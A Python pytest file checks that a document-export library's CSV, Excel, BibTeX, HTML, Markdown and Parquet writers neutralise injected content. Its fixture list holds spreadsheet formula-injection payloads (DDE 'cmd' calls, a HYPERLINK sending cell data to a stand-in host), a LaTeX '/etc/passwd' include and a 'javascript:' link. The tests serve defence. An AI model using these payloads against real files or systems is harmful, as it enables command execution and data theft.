"""What a document holds stays text in every format beside the page."""

from __future__ import annotations

import csv
import io
import json
import re

import msgspec
import pytest
from orvane import dossier_of
from parsed import Parsed
from test_hostile import CALM, HOSTILE, poisoned

from recoupe import writers
from recoupe.writers import excel, fragments, html, markdown
from recoupe.writers.rows import rows

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?a="&A1,"b")',
    "\t=1",
    "\r=1",
    "\ufeff=1",
    "\u00ad=1",
    "\u202f=1",
    "＝1＋1",
    '";=1;"',
    '",=1,"',
    '"\r\n=1',
    "a\r\nb\rc\nd\x0be\u2028f\x85g",
    "}\\input{/etc/passwd}",
    "% comment",
    "| a | b |\n|---|---|",
    "[a](javascript:alert(1))",
    "\ud800",
    "\x00\x1f\x7f\x9f\ufffe\uffff",
]
WORDS = [*HOSTILE, *FORMULAS]
SPREADSHEET = re.compile(r"[\s\x00-\x20\ufeff\u00ad\u200b-\u200f]*[=+\-@＝＋－＠]")


def cells(content, delimiter):
    """The rows of a table, as a spreadsheet parts them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


def sane(words):
    """The dossier with hostile words; what no UTF-8 can hold never comes out of a file that was read."""
    return poisoned(words.encode("utf-8", "replace").decode())


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
@pytest.mark.parametrize(("kinds", "delimiter"), [(writers.SUFFIXES, ","), (writers.EXCEL, ";")])
def test_a_table_keeps_its_cells_and_runs_none_of_them(words, kinds, delimiter, tmp_path):
    dossier = sane(words)

    writers.write(dossier, tmp_path / "d.csv", "fr", (), kinds)

    made = cells((tmp_path / "d.csv").read_bytes(), delimiter)
    assert {len(row) for row in made} == {len(excel.HEADINGS)}
    assert len(made) == len(list(rows(dossier))) + 1
    assert not [cell for row in made for cell in row if SPREADSHEET.match(cell)]
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "".join(cell for row in made for cell in row))


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_a_row_for_excel_is_one_line(words, tmp_path):
    dossier = sane(words)

    excel.write(dossier, tmp_path / "d.csv", "fr")

    assert len((tmp_path / "d.csv").read_text(encoding="utf-8-sig").splitlines()) == len(list(rows(dossier))) + 1


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_references_stay_in_their_fields(words, tmp_path):
    dossier = sane(words)

    for suffix in (".csl.json", ".bib"):
        writers.write(dossier, tmp_path / f"d{suffix}", "fr")

    assert len(json.loads((tmp_path / "d.csl.json").read_bytes())) == len(dossier.articles)
    bib = (tmp_path / "d.bib").read_text(encoding="utf-8")
    assert len(re.findall(r"^@article\{", bib, re.MULTILINE)) == len(dossier.articles)
    bare = re.sub(r"\\(?:text\w+\{\}|[{}$&#%_])", "", bib)
    assert bare.count("{") == bare.count("}")
    fields = [line for line in bare.splitlines() if line.startswith("  ") and not line.startswith("  url")]
    assert not [line for line in fields if re.search(r"[\\$&#%^~]", line)]


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
@pytest.mark.parametrize("suffix", [".md", ".jsonl", ".graphml", ".gexf", ".json"])
def test_whatever_it_says_a_dossier_is_written_whole(words, suffix, tmp_path):
    writers.write(fragments.only(sane(words)), tmp_path / f"d{suffix}", "fr")

    assert (tmp_path / f"d{suffix}").stat().st_size


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_the_title_that_somebody_gives_a_story_is_text(words):
    dossier = msgspec.structs.replace(dossier_of(), title=words.encode("utf-8", "replace").decode())

    page = Parsed(html.page(dossier, "fr"))

    assert {element.tag for element in page.elements} <= CALM
    assert len(page.of("script")) == 2
    assert len(re.findall("^# ", markdown.report(dossier, "fr"), re.MULTILINE)) == 1


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_parquet_has_every_text_as_it_is(words, tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    dossier = sane(words)

    writers.write(dossier, tmp_path / "d.parquet", "fr")

    assert parquet.read_table(tmp_path / "d.parquet").column("title").to_pylist() == [r.title for r in rows(dossier)]
